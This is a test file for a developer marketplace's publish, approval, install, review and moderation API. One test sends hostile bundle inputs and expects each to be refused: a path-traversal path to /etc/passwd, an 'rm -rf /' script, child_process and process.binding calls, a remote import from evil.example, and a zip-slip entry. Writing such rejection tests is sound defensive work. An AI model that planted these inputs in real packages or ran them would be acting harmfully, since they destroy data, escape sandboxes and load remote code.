import { beforeAll, expect, it } from 'vitest';
import { zipSync, strToU8 } from 'fflate';
import { describeEachDb, registerDeveloper, type TestDeveloper } from '../../test-helpers.js';
import { appFixture, type AppFixture } from '../appapi/appapi.test-helpers.js';

const M = '/console/community/marketplace';
const OPERATOR = 'operator@example.com';

const WIDGET = {
  name: 'Star rating',
  description: 'A star rating input for forms',
  kind: 'ui-component',
  version: '1.0.0',
  files: [
    { path: 'component.json', content: '{"name":"StarRating"}' },
    { path: 'src/index.js', content: 'export default function StarRating(props) { return props.value; }' },
  ],
};

const GREETER = (greeting: string) => `
class Greeter {
  /** @param {string} name @returns {string} */
  hello(name) { return '${greeting}, ' + name; }
}
Backendless.ServerCode.addService(Greeter);
`;

describeEachDb(
  'Marketplace: publish, approve, allocate, install, reviews and moderation',
  (server) => {
    let op: TestDeveloper;
    let author: TestDeveloper;
    let other: TestDeveloper;
    let f: AppFixture;
    let widgetId: string;
    let serviceId: string;
    const call = (dev: TestDeveloper, method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, body?: unknown) =>
      server().call(method, url, { authKey: dev.authKey, ...(body !== undefined ? { body: body as object } : {}) });

    beforeAll(async () => {
      op = await registerDeveloper(server(), OPERATOR);
      author = await registerDeveloper(server());
      other = await registerDeveloper(server());
      f = await appFixture(server());
    });

    it('keeps configuration defaults in their item type (a number stays a number, true/false a boolean)', async () => {
      // A developer of its own, so the other cases' submission lists stay as they expect.
      const typed = await registerDeveloper(server());
      const res = await call(typed, 'POST', `${M}/products`, {
        ...WIDGET,
        name: 'Typed defaults',
        configuration: [
          { name: 'stars', type: 'number', defaultValue: 5 },
          { name: 'half', type: 'boolean', defaultValue: true },
          { name: 'label', type: 'text', defaultValue: 'Rate' },
        ],
      });
      expect(res.statusCode, res.body).toBe(200);
      const versions = await call(typed, 'GET', `${M}/products/${res.json().id}/versions`);
      expect(versions.json()[0].configuration).toEqual([
        { name: 'stars', type: 'number', defaultValue: 5 },
        { name: 'half', type: 'boolean', defaultValue: true },
        { name: 'label', type: 'text', defaultValue: 'Rate' },
      ]);
      expect((await call(typed, 'DELETE', `${M}/products/${res.json().id}`)).statusCode).toBe(200);
      const bad = await call(typed, 'POST', `${M}/products`, {
        ...WIDGET,
        name: 'Bad default',
        configuration: [{ name: 'stars', type: 'number', defaultValue: 'many' }],
      });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().details.fields[0]).toMatchObject({ field: 'configuration' });
      expect(bad.json().message).toContain("'stars' must be a number");
    });

    it('refuses bundles with escaping paths, native files, Node built-ins or remote code (400) and stores nothing', async () => {
      const bad = async (kind: string, files: Array<{ path: string; content: string }>) => {
        const res = await call(author, 'POST', `${M}/products`, { ...WIDGET, kind, files });
        expect(res.statusCode, res.body).toBe(400);
        return res.json().details.fields[0].message as string;
      };
      expect(await bad('ui-component', [{ path: '../../etc/passwd', content: 'x' }])).toContain('escapes');
      expect(await bad('ui-component', [{ path: '/abs/index.js', content: 'x' }])).toContain('escapes');
      expect(await bad('ui-component', [{ path: 'run.sh', content: 'rm -rf /' }])).toContain('outside the sandbox');
      expect(
        await bad('cloud-code-service', [{ path: 'a.js', content: "const cp = require('child_process');" }]),
      ).toContain('Node built-in');
      expect(await bad('cloud-code-service', [{ path: 'a.js', content: 'process.binding("fs")' }])).toContain(
        'sandbox',
      );
      expect(
        await bad('ui-component', [{ path: 'index.js', content: "import('https://evil.example/x.js')" }]),
      ).toContain('another origin');
      // A ZIP whose entry climbs out of the bundle.
      const zip = Buffer.from(zipSync({ '../escape.js': strToU8('x') })).toString('base64');
      const res = await call(author, 'POST', `${M}/products`, { ...WIDGET, files: undefined, zip });
      expect(res.statusCode, res.body).toBe(400);
      expect((await call(author, 'GET', `${M}/submissions`)).json()).toEqual([]);
      // Unknown kind: 400 naming it.
      const kind = await call(author, 'POST', `${M}/products`, { ...WIDGET, kind: 'spaceship' });
      expect(kind.statusCode).toBe(400);
      expect(kind.body).toContain('spaceship');
    });

    it('a UI component is invisible to others until the operator approves it; only the operator approves', async () => {
      const zip = Buffer.from(
        zipSync(Object.fromEntries(WIDGET.files.map((x) => [x.path, strToU8(x.content)]))),
      ).toString('base64');
      const res = await call(author, 'POST', `${M}/products`, { ...WIDGET, files: undefined, zip });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toMatchObject({ status: 'pending', version: null, mine: true, kind: 'ui-component' });
      widgetId = res.json().id;

      expect((await call(other, 'GET', `${M}/products/${widgetId}`)).statusCode).toBe(404);
      expect((await call(other, 'GET', `${M}/products?search=star`)).json()).toEqual([]);
      expect((await call(author, 'GET', `${M}/products/${widgetId}`)).statusCode).toBe(200);
      // Neither the author nor another developer may approve.
      expect((await call(author, 'PUT', `${M}/products/${widgetId}/approve`)).statusCode).toBe(403);
      expect((await call(other, 'PUT', `${M}/products/${widgetId}/approve`)).statusCode).toBe(403);
      expect((await call(other, 'GET', `${M}/submissions?all=true`)).statusCode).toBe(403);
      // The operator sees the submission, rejects with a reason, then approves a new version.
      const queue = (await call(op, 'GET', `${M}/submissions?all=true`)).json();
      expect(queue.map((s: any) => s.product.id)).toContain(widgetId);
      expect(
        queue
          .find((s: any) => s.product.id === widgetId)
          .version.files.map((x: any) => x.path)
          .sort(),
      ).toEqual(['component.json', 'src/index.js']);
      const rejected = await call(op, 'PUT', `${M}/products/${widgetId}/reject`, 'Needs a description of the props');
      expect(rejected.json()).toMatchObject({ status: 'rejected', reason: 'Needs a description of the props' });
      expect((await call(other, 'GET', `${M}/products/${widgetId}`)).statusCode).toBe(404);
      const again = await call(author, 'POST', `${M}/products`, { ...WIDGET, productId: widgetId, version: '1.0.1' });
      expect(again.statusCode, again.body).toBe(200);
      const approved = await call(op, 'PUT', `${M}/products/${widgetId}/approve`);
      expect(approved.json()).toMatchObject({ status: 'approved', version: '1.0.1' });

      const seen = await call(other, 'GET', `${M}/products?search=STAR`);
      expect(seen.json().map((p: any) => p.id)).toEqual([widgetId]);
      expect((await call(other, 'GET', `${M}/categories/ui-component/products`)).json().map((p: any) => p.id)).toEqual([
        widgetId,
      ]);
      // Others see only the approved version.
      expect(
        (await call(other, 'GET', `${M}/products/${widgetId}/versions`)).json().map((v: any) => v.version),
      ).toEqual(['1.0.1']);
      expect(
        (await call(author, 'GET', `${M}/products/${widgetId}/versions`)).json().map((v: any) => v.status),
      ).toEqual(['approved', 'rejected']);
    });

    it('another developer allocates it to an app (operation 22) and installs it into a UI container', async () => {
      const buyer = f.dev;
      expect(
        (await call(buyer, 'GET', `/${f.appId}/console/community/marketplace/app-purchases/${widgetId}/exists`)).json(),
      ).toBe(false);
      // Installing before allocating is refused.
      const early = await call(
        buyer,
        'POST',
        `/${f.appId}/console/ui-builder/containers/default/components/install/${widgetId}`,
        {},
      );
      expect(early.statusCode).toBe(409);
      const bought = await call(
        buyer,
        'POST',
        `/${f.appId}/console/community/marketplace/app-purchases/${widgetId}`,
        {},
      );
      expect(bought.statusCode, bought.body).toBe(200);
      expect(bought.json()).toMatchObject({ productId: widgetId, appId: f.appId, price: 0 });
      expect(
        (await call(buyer, 'GET', `/${f.appId}/console/community/marketplace/app-purchases/${widgetId}/exists`)).json(),
      ).toBe(true);
      // A stranger to the app cannot allocate into it.
      expect(
        (await call(other, 'POST', `/${f.appId}/console/community/marketplace/app-purchases/${widgetId}`, {}))
          .statusCode,
      ).toBe(404);

      expect((await call(buyer, 'POST', `/${f.appId}/console/ui-builder/init`, {})).statusCode).toBe(200);
      const missing = await call(
        buyer,
        'POST',
        `/${f.appId}/console/ui-builder/containers/nope/components/install/${widgetId}`,
        {},
      );
      expect(missing.statusCode).toBe(404);
      const installed = await call(
        buyer,
        'POST',
        `/${f.appId}/console/ui-builder/containers/default/components/install/${widgetId}`,
        {},
      );
      expect(installed.statusCode, installed.body).toBe(200);
      expect(installed.json()).toMatchObject({ productId: widgetId, version: '1.0.1', target: 'ui-builder:default' });
      const installs = (await call(buyer, 'GET', `/api/app/${f.appId}/marketplace/installs`)).json();
      expect(installs.map((i: any) => [i.productId, i.target])).toEqual([[widgetId, 'ui-builder:default']]);
      expect((await call(author, 'GET', `${M}/installs/details?productIds=${widgetId}`)).json()).toEqual([
        { productId: widgetId, installs: 1 },
      ]);
      // The author's ledger shows the sale.
      const ledger = (await call(author, 'GET', `${M}/developer-sales/payouts`)).json();
      expect(ledger.map((l: any) => [l.productId, l.buyerId, l.amount])).toEqual([[widgetId, buyer.id, 0]]);
      expect((await call(author, 'GET', `${M}/developer-sales/general-sales`)).json()).toMatchObject({
        sales: 1,
        products: 1,
      });
    });

    it('reviews: rating 6 is a 400, a second review a 409, a buyer is a verified purchase', async () => {
      const buyer = f.dev;
      const six = await call(buyer, 'POST', '/console/community/reviews', {
        context: 'marketplace',
        itemId: widgetId,
        rating: 6,
      });
      expect(six.statusCode).toBe(400);
      const review = await call(buyer, 'POST', '/console/community/reviews', {
        context: 'marketplace',
        itemId: widgetId,
        rating: 5,
        body: 'Works **well**',
      });
      expect(review.statusCode, review.body).toBe(200);
      expect(review.json()).toMatchObject({ rating: 5, verifiedPurchase: true });
      const twice = await call(buyer, 'POST', '/console/community/reviews', {
        context: 'marketplace',
        itemId: widgetId,
        rating: 4,
      });
      expect(twice.statusCode).toBe(409);
      const notBought = await call(other, 'POST', '/console/community/reviews', {
        context: 'marketplace',
        itemId: widgetId,
        rating: 3,
      });
      expect(notBought.json().verifiedPurchase).toBe(false);
      expect((await call(other, 'GET', `${M}/products/${widgetId}`)).json()).toMatchObject({ rating: 4, reviews: 2 });
    });

    it('a hidden comment is seen only by its author and the moderators; operators moderate every item', async () => {
      const commenter = f.dev;
      const made = await call(commenter, 'POST', '/console/community/comments', {
        context: 'marketplace',
        itemId: widgetId,
        body: 'Buy my thing at spam.example',
      });
      expect(made.statusCode, made.body).toBe(200);
      const id = made.json().id;
      // A developer who is neither the author of the product nor an operator cannot hide it.
      expect((await call(other, 'PUT', `/console/community/comments/${id}/hide`)).statusCode).toBe(403);
      const hidden = await call(op, 'PUT', `/console/community/comments/${id}/hide`);
      expect(hidden.statusCode, hidden.body).toBe(200);
      const list = async (dev: TestDeveloper) =>
        (await call(dev, 'GET', `/console/community/comments?context=marketplace&itemId=${widgetId}`))
          .json()
          .map((c: any) => c.id);
      expect(await list(other)).toEqual([]);
      expect(await list(commenter)).toEqual([id]);
      expect(await list(op)).toEqual([id]);
      expect(await list(author)).toEqual([id]);
      // Operators moderate other contexts too (an app's discussion they are not part of).
      const appComment = await call(commenter, 'POST', '/console/community/comments', {
        context: 'app',
        itemId: f.appId,
        body: 'team note',
      });
      expect((await call(op, 'PUT', `/console/community/comments/${appComment.json().id}/hide`)).statusCode).toBe(200);
      expect((await call(op, 'PUT', `/console/community/comments/${id}/display`)).statusCode).toBe(200);
      expect(await list(other)).toEqual([id]);
    });

    it('a cloud-code service product is deployed into its own model, runs in the sandbox, upgrades with a diff and uninstalls', async () => {
      const published = await call(author, 'POST', `${M}/products`, {
        name: 'Greeter',
        kind: 'cloud-code-service',
        version: '1.0.0',
        configuration: [
          { name: 'apiKey', type: 'secret', required: true },
          { name: 'prefix', type: 'text', defaultValue: 'Hi' },
        ],
        files: [{ path: 'services/greeter.js', content: GREETER('Hello') }],
      });
      expect(published.statusCode, published.body).toBe(200);
      serviceId = published.json().id;
      expect((await call(op, 'PUT', `${M}/products/${serviceId}/approve`)).statusCode).toBe(200);
      const buyer = f.dev;
      expect(
        (await call(buyer, 'POST', `/${f.appId}/console/community/marketplace/app-purchases/${serviceId}`, {}))
          .statusCode,
      ).toBe(200);
      const url = `/${f.appId}/console/cloud-code/deployment-models/marketplace/install/${serviceId}`;
      const noSecret = await call(buyer, 'POST', url, {});
      expect(noSecret.statusCode).toBe(400);
      expect(noSecret.json().details.fields[0].field).toBe('apiKey');
      const done = await call(buyer, 'POST', url, { configuration: { apiKey: 's3cret' } });
      expect(done.statusCode, done.body).toBe(200);
      expect(done.json()).toMatchObject({ version: '1.0.0', configuration: { apiKey: '********', prefix: 'Hi' } });
      expect(done.json().target).toMatch(/^cloud-code:marketplace-/);
      // Sealed at rest.
      const stored = await server()
        .app.basalt.dbs.system.selectFrom('mp_installs' as any)
        .select('config' as any)
        .where('product_id' as any, '=', serviceId)
        .executeTakeFirst();
      expect(String((stored as any).config)).not.toContain('s3cret');
      const hello = await f.api('POST', '/services/Greeter/hello', { body: 'Ann' as any });
      expect(hello.statusCode, hello.body).toBe(200);
      expect(hello.json()).toBe('Hello, Ann');

      // A new version: the diff names the changed file; the upgrade keeps the secret.
      await call(author, 'POST', `${M}/products`, {
        productId: serviceId,
        name: 'Greeter',
        kind: 'cloud-code-service',
        version: '1.1.0',
        configuration: [{ name: 'apiKey', type: 'secret', required: true }],
        files: [
          { path: 'services/greeter.js', content: GREETER('Howdy') },
          { path: 'README.md', content: 'Greets' },
        ],
      });
      expect((await call(op, 'PUT', `${M}/products/${serviceId}/approve`)).json().version).toBe('1.1.0');
      const diff = await call(buyer, 'GET', `/api/app/${f.appId}/marketplace/installs/${serviceId}/diff?version=1.1.0`);
      expect(diff.json()).toEqual({
        productId: serviceId,
        from: '1.0.0',
        to: '1.1.0',
        added: ['README.md'],
        removed: [],
        changed: ['services/greeter.js'],
        configurationAdded: [],
        configurationRemoved: ['prefix'],
      });
      const up = await call(buyer, 'POST', `/api/app/${f.appId}/marketplace/installs/${serviceId}`, {
        version: '1.1.0',
      });
      expect(up.statusCode, up.body).toBe(200);
      expect(up.json().configuration).toEqual({ apiKey: '********' });
      expect((await f.api('POST', '/services/Greeter/hello', { body: 'Bo' as any })).json()).toBe('Howdy, Bo');

      const removed = await call(
        buyer,
        'POST',
        `/${f.appId}/console/cloud-code/deployment-models/marketplace/uninstall/${serviceId}`,
      );
      expect(removed.statusCode, removed.body).toBe(200);
      expect((await f.api('POST', '/services/Greeter/hello', { body: 'Cy' as any })).statusCode).not.toBe(200);
      expect(
        (await call(buyer, 'GET', `/api/app/${f.appId}/marketplace/installs`)).json().map((i: any) => i.productId),
      ).toEqual([widgetId]);
    });

    it('a paid product is refused clearly and nothing is recorded; unknown products are 404 naming them', async () => {
      const paid = await call(author, 'POST', `${M}/products`, { ...WIDGET, name: 'Pro widget', price: 999 });
      const id = paid.json().id;
      await call(op, 'PUT', `${M}/products/${id}/approve`);
      const res = await call(f.dev, 'POST', `/${f.appId}/console/community/marketplace/app-purchases/${id}`, {});
      expect(res.statusCode).toBe(402);
      expect(res.json()).toMatchObject({ code: 'PAYMENT_REQUIRED' });
      expect(res.json().message).toContain('9.99');
      expect(
        (await call(f.dev, 'GET', `/${f.appId}/console/community/marketplace/app-purchases`))
          .json()
          .map((p: any) => p.productId),
      ).not.toContain(id);
      const unknown = await call(f.dev, 'GET', `${M}/products/NOPE`);
      expect(unknown.statusCode).toBe(404);
      expect(unknown.json().message).toContain('NOPE');
      // Removed by the operator: gone from the catalogue.
      expect((await call(op, 'DELETE', `${M}/products/${id}`, 'Duplicate')).statusCode).toBe(200);
      expect((await call(other, 'GET', `${M}/products/${id}`)).statusCode).toBe(404);
    });
  },
  { admins: [OPERATOR] },
);
